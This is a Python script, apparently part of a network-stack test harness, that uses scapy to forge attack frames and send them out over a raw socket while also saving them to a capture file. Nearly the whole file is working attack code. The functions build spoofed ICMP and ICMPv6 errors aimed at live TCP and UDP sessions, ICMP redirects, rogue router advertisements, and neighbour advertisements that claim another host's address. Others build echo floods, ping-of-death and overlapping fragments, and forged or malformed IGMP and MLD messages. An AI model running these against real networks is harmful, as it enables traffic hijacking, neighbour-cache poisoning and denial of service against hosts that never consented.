"""The frames of the attacks: `frames.py INTERFACE MAC CAPTURE PACE NAME WORD...`.

Writes those that the function of this name makes of the words into a capture, and sends them on the interface to the
machine with this hardware address, so many seconds apart. Unless it is said otherwise, they are from the forger's
own hardware.
"""
import socket
import struct
import sys
import time

from scapy.contrib.igmp import IGMP
from scapy.contrib.igmpv3 import IGMPv3, IGMPv3mq
from scapy.layers.inet import ICMP, IP, TCP, UDP, IPOption_Router_Alert
from scapy.layers.inet6 import (
    ICMPv6DestUnreach,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    ICMPv6MLDone,
    ICMPv6ND_NA,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6PacketTooBig,
    IPv6,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    RouterAlert,
)
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.utils import RawPcapWriter

FORGER = "02:00:00:00:00:66"


def error(kind, mtu, source, here, quoted):
    """An error `TYPE/CODE`, with this MTU where it has one, about a packet."""
    ty, code = map(int, kind.split("/"))
    if ":" not in here:
        return IP(src=source, dst=here) / ICMP(type=ty, code=code, nexthopmtu=int(mtu)) / quoted
    message = ICMPv6PacketTooBig(mtu=int(mtu)) if ty == 2 else ICMPv6DestUnreach(code=code)
    return IPv6(src=source, dst=here) / message / quoted


def sent(here, there, payload):
    """A packet of 1,500 octets, as far as an error quotes it."""
    if ":" in here:
        return IPv6(src=here, dst=there, plen=1460) / payload
    return IP(src=here, dst=there, len=1500, flags="DF") / payload


def about_tcp(kind, mtu, source, here, there, near, far, *sequences):
    for sequence in sequences:
        segment = TCP(sport=int(near), dport=int(far), seq=int(sequence))
        yield error(kind, mtu, source, here, sent(here, there, segment))


def about_udp(kind, mtu, source, here, there, near, far):
    datagram = UDP(sport=int(near), dport=int(far), len=1480)
    yield error(kind, mtu, source, here, sent(here, there, datagram))


def about_echo(kind, mtu, source, here, sender, there):
    """About the answer of `sender` to an echo request."""
    reply = ICMPv6EchoReply(id=7) if ":" in here else ICMP(type=0, id=7)
    yield error(kind, mtu, source, here, sent(sender, there, reply))


def redirect(hardware, gateway, better, about, here, port):
    quoted = IP(src=here, dst=about) / UDP(sport=int(port), dport=53) / b"x"
    packet = IP(src=gateway, dst=here) / ICMP(type=5, code=1, gw=better) / quoted
    # The second is heeded at the latest: to Linux the new gateway is a neighbour by then.
    return [Ether(src=hardware) / packet] * 2


def advertised(router):
    yield IPv6(src=router, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=1800)


def advertised_v4(router, here):
    entry = socket.inet_aton(router) + bytes(4)
    yield IP(src=router, dst=here, ttl=1, proto=1) / summed(struct.pack("!BBHBBH", 9, 0, 0, 1, 2, 1800) + entry)


def neighbour(hops, fragment, about, here):
    """That the neighbour `about` has the forger's hardware."""
    told = ICMPv6ND_NA(tgt=about, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=FORGER)
    header = IPv6ExtHdrFragment() if fragment == "fragment" else None
    packet = IPv6(src=about, dst=here, hlim=int(hops))
    yield packet / header / told if header else packet / told


def quench(source, here, there, near, far, sequence):
    return about_tcp("4/0", 0, source, here, there, near, far, sequence)


def asked(kind, count, source, here):
    """Requests of an ICMPv4 type, or echo requests of ICMPv6."""
    for n in range(int(count)):
        if ":" in here:
            yield IPv6(src=source, dst=here) / ICMPv6EchoRequest(id=9, seq=n)
        else:
            yield IP(src=source, dst=here) / ICMP(type=int(kind), id=9, seq=n)


def flood(count, every, source, other, here):
    """Echo requests from one source, and after each so many of them one from another."""
    for n in range(int(count)):
        yield IP(src=source, dst=here) / ICMP(id=9, seq=n)
        if n % int(every) == 0:
            yield IP(src=other, dst=here) / ICMP(id=10, seq=n)


def request(here, octets):
    """An echo request of so many octets, whose checksum nobody looks at before it is put together."""
    return bytes(ICMPv6EchoRequest(id=9) if ":" in here else ICMP(id=9)).ljust(octets, b"x")


def death(source, here):
    """Fragments of an echo request, of which the last ends beyond 65,535 octets."""
    places = range(0, 65_536, 1448)
    whole = request(here, places[-1] + 1448)
    return fragments(source, here, [(at, 1448, whole) for at in places])


def overlap(source, here):
    """Fragments of an echo request, of which the second begins within the first."""
    whole = request(here, 96)
    return fragments(source, here, [(0, 64, whole), (40, 56, whole)])


def fragments(source, here, parts):
    for at, length, whole in parts:
        more, part = int(at != parts[-1][0]), Raw(whole[at : at + length])
        if ":" in here:
            header = IPv6ExtHdrFragment(nh=58, offset=at // 8, m=more, id=77)
            yield IPv6(src=source, dst=here) / header / part
        else:
            yield IP(src=source, dst=here, id=77, proto=1, flags=more, frag=at // 8) / part


def igmp_leave(source, ttl, group):
    packet = IP(src=source, dst=group, ttl=int(ttl), options=alert())
    yield packet / IGMP(type=0x17, mrcode=0, gaddr=group)


def mld_done(source, hops, group):
    options = IPv6ExtHdrHopByHop(options=[RouterAlert()])
    yield IPv6(src=source, dst=group, hlim=int(hops)) / options / ICMPv6MLDone(mladdr=group)


def igmp_query_v1(source, ttl):
    yield IP(src=source, dst="224.0.0.1", ttl=int(ttl)) / IGMP(type=0x11, mrcode=0)


def igmp_queries_v3(count, source):
    query = IP(src=source, dst="224.0.0.1", ttl=1, options=alert()) / IGMPv3(type=0x11, mrcode=0) / IGMPv3mq()
    return [query] * int(count)


def igmp_report(source, stated, present):
    """A report of version 3 that states so many records, and has so many."""
    records = b"".join(
        struct.pack("!BBH4s", 4, 0, 0, struct.pack("!I", 0xEF07_0000 + n)) for n in range(int(present))
    )
    message = struct.pack("!BBHHH", 0x22, 0, 0, 0, int(stated)) + records
    yield IP(src=source, dst="224.0.0.22", ttl=1, proto=2, options=alert()) / summed(message)


def alert():
    return [IPOption_Router_Alert()]


def summed(message):
    """A message with its checksum, behind its type and code."""
    total = sum(struct.unpack("!%dH" % (len(message) // 2), message))
    total = (total & 0xFFFF) + (total >> 16)
    total = ~(total + (total >> 16)) & 0xFFFF
    return Raw(message[:2] + struct.pack("!H", total) + message[4:])


def link(packet, mac):
    """A frame, as a packet that has none yet goes to its destination."""
    if isinstance(packet, Ether):
        frame = packet
    else:
        frame = Ether(src=FORGER) / packet
    to = frame.payload.dst
    if ":" in to:
        octets = socket.inet_pton(socket.AF_INET6, to)
        group = b"\x33\x33" + octets[12:] if octets[0] == 0xFF else None
    else:
        octets = socket.inet_aton(to)
        group = b"\xff" * 6 if octets[3] == 255 else None
        if octets[0] >> 4 == 0xE:
            group = b"\x01\0\x5e" + bytes([octets[1] & 0x7F]) + octets[2:]
    frame.dst = group.hex(":") if group else mac
    return frame


interface, mac, capture, pace, name, *words = sys.argv[1:]
frames = [bytes(link(packet, mac)) for packet in globals()[name](*words)]
with RawPcapWriter(capture, linktype=1) as file:
    for frame in frames:
        file.write(frame)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
for frame in frames:
    wire.send(frame)
    time.sleep(float(pace))
